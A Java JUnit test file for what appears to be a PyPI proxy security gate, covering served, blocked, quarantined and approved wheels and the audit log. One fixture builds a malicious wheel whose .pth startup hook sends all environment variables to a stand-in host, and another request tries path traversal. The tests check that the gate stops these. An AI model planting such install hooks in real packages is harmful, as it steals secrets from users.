package dev.gatehouse.proxy.pypi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.core.store.ArtifactStore;
import dev.gatehouse.core.store.Database;
import dev.gatehouse.policy.Ecosystem;
import dev.gatehouse.policy.PackageRef;
import dev.gatehouse.proxy.testing.FakeUpstream;
import dev.gatehouse.proxy.testing.RawRequest;
import dev.gatehouse.proxy.testing.TestClock;
import dev.gatehouse.proxy.testing.TestGatehouse;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Wheels through the gate with the real analyzer: served and kept, blocked, quarantined and approved, each
 * decision reflected on the project's page at once and written to the audit log.
 */
class GatedDownloadTest {
  private static final Pattern QUARANTINE_ID = Pattern.compile("quarantine id (q-[a-z2-7]{10})");

  @TempDir Path tmp;
  private FakeUpstream upstream;
  private TestGatehouse gatehouse;

  @BeforeEach
  void start() throws Exception {
    upstream = FakeUpstream.start();
    gatehouse = TestGatehouse.builder(tmp).pypi(upstream.url("/simple/"), upstream.url("/files/"))
        .clock(TestClock.at(Instant.parse("2026-05-01T12:00:00Z"))).blockingThreads(8).start();
  }

  @AfterEach
  void stop() throws Exception {
    gatehouse.close();
    upstream.close();
  }

  /** Lists {@code wheels} as the files of {@code project} and serves their bytes. */
  private void publish(String project, WheelFixture... wheels) {
    StringBuilder page = new StringBuilder();
    for (WheelFixture wheel : wheels) {
      page.append("<a href=\"../../files/%s#sha256=%s\">%1$s</a>\n".formatted(wheel.fileName(),
          WheelFixture.sha256Hex(wheel.bytes())));
      upstream.body("/files/" + wheel.fileName(), "application/octet-stream", wheel.bytes());
    }
    upstream.text("/simple/" + project + "/", "text/html; charset=utf-8", page.toString());
  }

  private String path(String project, WheelFixture wheel) {
    return "/pypi/files/" + project + "/" + upstream.hostPort() + "/files/" + wheel.fileName();
  }

  private String page(String project) throws Exception {
    return gatehouse.get("/pypi/simple/" + project + "/", "Accept", "text/html").body();
  }

  @Test
  void aCleanWheelIsServedAndKeptSoThatLaterRequestsStayLocal() throws Exception {
    WheelFixture wheel = WheelFixture.of("demo_pkg", "1.0").file("demo_pkg/__init__.py", "def f():\n    return 1\n");
    publish("demo-pkg", wheel);

    HttpResponse<byte[]> first = gatehouse.getBytes(path("demo-pkg", wheel));
    HttpResponse<byte[]> second = gatehouse.getBytes(path("demo-pkg", wheel));
    HttpResponse<byte[]> conditional = gatehouse.getBytes(path("demo-pkg", wheel),
        "If-None-Match", first.headers().firstValue("ETag").orElseThrow());

    assertThat(first.statusCode()).isEqualTo(200);
    assertThat(first.body()).isEqualTo(wheel.bytes());
    assertThat(second.body()).isEqualTo(wheel.bytes());
    assertThat(conditional.statusCode()).isEqualTo(304);
    assertThat(upstream.hits("/files/" + wheel.fileName())).isEqualTo(1);
  }

  @Test
  void aBlockedWheelIsRefusedWithItsReasonLeavesItsPageAndKeepsNoBytes() throws Exception {
    WheelFixture good = WheelFixture.of("demo_evil", "0.9").file("demo_evil/__init__.py", "");
    WheelFixture evil = WheelFixture.of("demo_evil", "1.0").file("demo_evil/__init__.py", "")
        .file("demo_evil_init.pth", "import os, socket; socket.create_connection(('collector.invalid', 443))"
            + ".sendall(repr(dict(os.environ)).encode())\n");
    publish("demo-evil", good, evil);

    RawRequest.Answer refused = RawRequest.get(gatehouse.port(), path("demo-evil", evil));
    HttpResponse<String> page = gatehouse.get("/pypi/simple/demo-evil/", "Accept", "text/html");

    assertThat(refused.status()).isEqualTo(403);
    assertThat(refused.statusLine()).contains("demo-evil@1.0 (demo_evil-1.0-py3-none-any.whl) blocked by Gatehouse rule",
        "demo_evil_init.pth");
    assertThat(page.body()).contains(good.fileName()).doesNotContain(evil.fileName());
    assertThat(page.headers().firstValue("X-Gatehouse-Filtered")).hasValue("1");
    assertThat(gatehouse.keptFiles()).noneMatch(p -> p.getFileName().toString()
        .equals(WheelFixture.sha256Hex(evil.bytes())));
  }

  @Test
  void aQuarantinedWheelNamesItsIdAndAnApprovalServesAndListsItAgain() throws Exception {
    WheelFixture tampered = WheelFixture.of("demo_pkg", "2.0").file("demo_pkg/__init__.py", "")
        .unrecorded("demo_pkg/extra.py", "X = 1\n");
    publish("demo-pkg", tampered);

    RawRequest.Answer held = RawRequest.get(gatehouse.port(), path("demo-pkg", tampered));
    assertThat(held.status()).isEqualTo(403);
    assertThat(held.statusLine()).contains("demo-pkg@2.0 (demo_pkg-2.0-py3-none-any.whl) quarantined by Gatehouse rule",
        "quarantine id q-");
    Matcher id = QUARANTINE_ID.matcher(held.statusLine());
    assertThat(id.find()).as(held.statusLine()).isTrue();
    // Pending review it stays listed, so pip picks it and prints the 403 instead of falling back to an older file.
    assertThat(page("demo-pkg")).contains(tampered.fileName());

    HttpResponse<String> approval = gatehouse.admin("POST", "/api/v1/quarantine/" + id.group(1) + "/approve",
        "{\"reason\": \"extra.py is a generated constant\"}", "reviewer-ann");

    assertThat(approval.statusCode()).as(approval.body()).isEqualTo(200);
    assertThat(gatehouse.getBytes(path("demo-pkg", tampered)).body()).isEqualTo(tampered.bytes());
    assertThat(page("demo-pkg")).contains(tampered.fileName());
    assertThat(upstream.hits("/files/" + tampered.fileName())).as("quarantined bytes are kept").isEqualTo(1);
  }

  /**
   * Regression test: an approval judged the wheel again with facts read from the index page, so it fetched the
   * page again (or, with the page cut, judged without the upload time the cooldown needs).
   */
  @Test
  void anApprovalReusesTheStoredUploadTimeAndDoesNotFetchTheIndexPageAgain() throws Exception {
    WheelFixture tampered = WheelFixture.of("demo_pkg", "2.0").file("demo_pkg/__init__.py", "")
        .unrecorded("demo_pkg/extra.py", "X = 1\n");
    upstream.body("/files/" + tampered.fileName(), "application/octet-stream", tampered.bytes());
    upstream.text("/simple/demo-pkg/", "application/vnd.pypi.simple.v1+json", """
        {"meta": {"api-version": "1.1"}, "name": "demo-pkg", "versions": ["2.0"], "files": [
          {"filename": "%s", "url": "../../files/%1$s", "hashes": {"sha256": "%s"},
           "upload-time": "2026-04-01T00:00:00Z"}]}
        """.formatted(tampered.fileName(), WheelFixture.sha256Hex(tampered.bytes())));
    RawRequest.Answer held = RawRequest.get(gatehouse.port(), path("demo-pkg", tampered));
    Matcher id = QUARANTINE_ID.matcher(held.statusLine());
    assertThat(id.find()).as(held.statusLine()).isTrue();
    gatehouse.clock().advance(Duration.ofDays(1)); // the kept copy of the page is long stale
    int pageFetches = upstream.hits("/simple/demo-pkg/");

    HttpResponse<String> approval = gatehouse.admin("POST", "/api/v1/quarantine/" + id.group(1) + "/approve",
        "{\"reason\": \"extra.py is a generated constant\"}", "reviewer-ann");

    assertThat(approval.statusCode()).as(approval.body()).isEqualTo(200);
    assertThat(upstream.hits("/simple/demo-pkg/")).as("the approval read no index page").isEqualTo(pageFetches);
    try (Database db = Database.openSqlite(gatehouse.dataDir())) {
      assertThat(new ArtifactStore(db).find(new PackageRef(Ecosystem.PYPI, "demo-pkg", "2.0", tampered.fileName()))
          .orElseThrow().publishedAt()).hasValue(Instant.parse("2026-04-01T00:00:00Z"));
    }
    assertThat(gatehouse.getBytes(path("demo-pkg", tampered)).body()).isEqualTo(tampered.bytes());
  }

  @Test
  void everyRequestUnderPypiIsInTheAuditLog() throws Exception {
    WheelFixture wheel = WheelFixture.of("demo_pkg", "1.0").file("demo_pkg/__init__.py", "");
    publish("demo-pkg", wheel);

    page("demo-pkg");
    gatehouse.getBytes(path("demo-pkg", wheel));
    gatehouse.get("/pypi/files/demo-pkg/evil.invalid/x/%2e%2e/demo_pkg-1.0-py3-none-any.whl");

    String audit = gatehouse.auditTrail("ecosystem=pypi");
    assertThat(audit).contains("\"file\" : \"demo_pkg-1.0-py3-none-any.whl\"", "\"decision\" : \"allow\"",
        "\"version\" : \"1.0\"", "\"status\" : 400", "\"package\" : \"demo-pkg\"");
  }
}
